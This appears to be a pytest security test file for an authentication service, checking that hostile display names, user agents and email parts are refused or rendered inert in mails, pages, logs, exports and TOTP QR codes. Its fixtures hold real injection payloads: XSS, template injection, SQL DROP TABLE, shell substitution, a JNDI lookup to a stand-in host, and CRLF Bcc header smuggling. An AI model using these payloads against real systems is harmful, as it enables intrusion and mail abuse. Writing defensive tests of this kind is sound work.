"""Attack 32: a name with `\\r\\nBcc:`, `<script>`, `{{7*7}}`, `=cmd()`, `%n`, ESC, U+202E, 10 KiB -> inert in mail, page,
log, NDJSON, QR.

What a mail server sees of it is in test_mail_delivery.py.
"""

import base64
import json
import struct
import xml.etree.ElementTree
import zlib
from urllib.parse import parse_qs, unquote, urlsplit

import pytest

from harness.passkey_flows import register as register_passkey
from harness.passkey_flows import start_registration
from harness.people import People, fresh_email, fresh_password

REFUSED = (422, "validation_failed")
# Inert as they are: text like any other.
TEXT = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</textarea><svg/onload=alert(1)>",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "{0.__class__}",
    "{}",
    "%n%s%x%p",
    "=cmd()|' /C calc'!A0",
    "+1+1",
    "@SUM(1)",
    "-2+3",
    "'; DROP TABLE users; --",
    "&lt;b&gt;",
    "\"'`>",
    "a&issuer=evil&secret=A",
    "%41%2526",
    "http://evil.test/",
    "${jndi:ldap://evil.test}",
    "|id",
    "$(id)",
    "`id`",
    "=?utf-8?q?=0d=0aBcc:_b@example.test?=",
    "]]>",
    "<!--",
    "\\u0041\\r\\n",
    "--boundary",
    "a;b,c:d",
    ".",
]
# Never shown, so never taken.
CONTROL = {
    "CRLF": "x\r\nBcc: victim@example.test",
    "LF": "x\nBcc: victim@example.test",
    "CR": "x\rBcc: y",
    "NUL": "nul\0byte",
    "ESC": "esc\x1b[2J",
    "C1": "csi\x9b2J",
    "BEL": "bel\x07",
    "DEL": "del\x7f",
    "U+202E": "exe\u202egnp.jpg",
    "U+2066": "a\u2066b",
    "U+2028": "a\u2028b",
    "U+2029": "a\u2029b",
    "U+0085": "a\u0085Bcc: b",
    "tab": "a\tb",
    "BOM": "\ufeffa",
    "tag letters": "a\U000e0041",
    "unassigned": "a\uffff",
}


def register(client, email, password=None, **members):
    return client.post("/auth/register", {"email": email, "password": password or fresh_password()} | members)


# ASVS 1.3.11, attack 32
@pytest.mark.parametrize("name", ["x\r\nBcc: victim@example.test", "nul\0byte", "esc\x1b[2J"], ids=["CRLF", "NUL", "ESC"])
def test_a_name_with_control_characters_is_refused(client, name):
    reply = register(client, fresh_email(), name=name)
    assert reply.field_errors == {("name", "invalid_characters")}


def test_an_endless_name_is_refused(client):
    assert register(client, fresh_email(), name="n" * 10_000).field_errors == {("name", "too_long")}


# ASVS 1.3.11, attack 32: at every place that takes a name
@pytest.mark.parametrize("name", CONTROL.values(), ids=CONTROL.keys())
def test_what_cannot_be_shown_is_refused_everywhere(people, name):
    assert register(people.browser(), fresh_email(), name=name).refusal == REFUSED
    client, account = people.with_passkey()
    path = f"/auth/webauthn/credentials/{account.passkey.record['id']}"
    assert client.request("PATCH", path, json={"name": name}, csrf=True).refusal == REFUSED
    assert client.get("/auth/webauthn/credentials").json["credentials"] == [account.passkey.record]
    taken = people.server.command(
        "user", "import", "-", stdin=json.dumps({"email": fresh_email(), "password_hash": None, "name": name}) + "\n"
    )
    assert taken.returncode == 1


@pytest.mark.parametrize("size", [201, 10 * 1024, 16_000])
def test_a_long_one_is_refused_everywhere(people, size):
    assert register(people.browser(), fresh_email(), name="n" * size).field_errors == {("name", "too_long")}
    client, account = people.with_passkey()
    path = f"/auth/webauthn/credentials/{account.passkey.record['id']}"
    assert client.request("PATCH", path, json={"name": "n" * size}, csrf=True).refusal == REFUSED


# ASVS 1.2.1, 1.3.7, attack 32: a name is text everywhere: whole where data are asked for, absent where it has no place
@pytest.mark.parametrize("name", TEXT, ids=ascii)
def test_a_name_is_inert_in_data_and_absent_from_mails_and_pages(people, name):
    client, account = people.stepped_up(name=name)
    assert client.get("/auth/me").json["name"] == name
    assert client.get("/auth/me/export").json["account"]["name"] == name
    assert start_registration(client)["publicKey"]["user"]["displayName"] in (name, account.email)
    register_passkey(client, name=name)
    (shown,) = client.get("/auth/webauthn/credentials").json["credentials"]
    assert shown["name"] == name
    people.ask_for_reset(account.email)
    for mail in people.mails(account.email, count=3):
        assert mail["subject"].isprintable() and "49" not in mail["subject"]
        if len(name) > 8:
            assert name not in mail["text"] + mail["html"] + mail["subject"]
        assert "<script>" not in mail["html"] and "onerror" not in mail["html"] and "onload" not in mail["html"]
        assert mail["to"] == account.email
    for page in ("/dev/mailbox", "/verify-email", "/reset-password"):
        assert len(name) < 9 or name.encode() not in client.get(page).body


def said(server) -> list[dict]:
    """What its log says but of requests, whose lines come within about a second."""
    return [line for line in server.log_lines() if "path" not in line]


# ASVS 16.4.1, attack 32: one account, one line, that reads back as what it was
def test_names_are_inert_in_ndjson_and_in_the_log(start_server):
    server = start_server()
    people = People(server)
    accounts = {name: people.verified(name=name) for name in TEXT}
    server.wait_for_log(lambda line: line["message"] == "ready")  # what it says at its start is written within a second
    before = len(said(server))
    for arguments in (("user", "export"), ("--json", "user", "list")):
        output = server.command(*arguments).stdout
        rows = [json.loads(line) for line in output.splitlines()]
        rows = rows[0] if isinstance(rows[0], list) else rows
        named = {row["email"]: row["name"] for row in rows if "name" in row}
        assert arguments[-1] != "export" or named == {account.email: name for name, account in accounts.items()}
        assert len(rows) == len(TEXT)
    assert len(said(server)) == before
    assert not any(name in server.log() for name in TEXT if len(name) > 8)
    assert not any(line["level"] == "error" for line in server.log_lines())


# ASVS 16.4.1, 1.2.1, attack 32: a browser's name for itself is a name too
@pytest.mark.parametrize("agent", ["<script>alert(1)</script>", "{{7*7}}", "%n%s", "x\u202ey", "=cmd()", "A" * 8000])
def test_what_a_browser_calls_itself_is_inert(people, agent):
    account = people.verified()
    refused = people.browser(user_agent=agent + "\x1b[2J").post("/auth/login", account.credentials)
    assert refused.refusal == (400, "invalid_request"), "no control character is part of a head"
    client = people.sign_in(account, user_agent=agent)
    (session,) = client.get("/auth/sessions").json["sessions"]
    assert len(session["user_agent"]) <= 1024 and session["user_agent"].isprintable()
    client.post("/auth/step-up/password", {"password": account.password}, csrf=True)
    people.ask_for_reset(account.email)
    for mail in people.mails(account.email, count=2):
        assert agent[:24] not in mail["text"] + mail["html"] + mail["subject"]


HOSTILE = ["o'hara", "a&secret=AAAAAAAA", "b?issuer=evil#x", "c%41%2526", "d+e=f", "{{7*7}}", "g`$h|i!", "ж"]


def png_of(setup: dict) -> tuple[int, int]:
    """Its size; fails where a chunk is damaged."""
    data = base64.b64decode(setup["qr_png"], validate=True)
    assert data.startswith(b"\x89PNG\r\n\x1a\n")
    chunks, at = {}, 8
    while at < len(data):
        (length,) = struct.unpack_from(">I", data, at)
        kind, body = data[at + 4 : at + 8], data[at + 8 : at + 8 + length]
        assert struct.unpack_from(">I", data, at + 8 + length)[0] == zlib.crc32(kind + body)
        chunks[kind] = chunks.get(kind, b"") + body
        at += 12 + length
    assert len(zlib.decompress(chunks[b"IDAT"])) > 0 and b"IEND" in chunks
    return struct.unpack_from(">II", chunks[b"IHDR"])


# ASVS 1.2.1, 1.2.2, attack 32
@pytest.mark.parametrize("local", HOSTILE)
def test_no_name_gets_out_of_its_part_of_the_uri(start_server, local):
    people = People(start_server(TOTP_ISSUER="Bänk & Söhne?<script>/#%41"))
    account = people.verified(email=fresh_email(local))
    setup = people.sign_in(account).post("/auth/mfa/totp/setup", csrf=True).json
    parts = urlsplit(setup["provisioning_uri"])
    assert (parts.scheme, parts.netloc, parts.fragment) == ("otpauth", "totp", "")
    issuer, _, name = parts.path.removeprefix("/").partition(":")
    assert (unquote(issuer), unquote(name)) == ("Bänk & Söhne?<script>/#%41", account.email)
    assert parse_qs(parts.query, strict_parsing=True) == {
        "secret": [setup["secret"]],
        "issuer": ["Bänk & Söhne?<script>/#%41"],
        "algorithm": ["SHA1"],
        "digits": ["6"],
        "period": ["30"],
    }


# ASVS 1.2.1, attack 32
def test_the_pictures_are_pictures_and_nothing_else(start_server):
    client, account = People(start_server(TOTP_ISSUER="'\"><script>alert(1)</script>")).signed_in()
    setup = client.post("/auth/mfa/totp/setup", csrf=True).json
    width, height = png_of(setup)
    assert width == height >= 200
    root = xml.etree.ElementTree.fromstring(setup["qr_svg"])
    names = {element.tag.rpartition("}")[2] for element in root.iter()}
    assert names <= {"svg", "rect", "path", "g"}
    assert not [text for text in (account.email, setup["secret"], "script", "href") if text in setup["qr_svg"]]
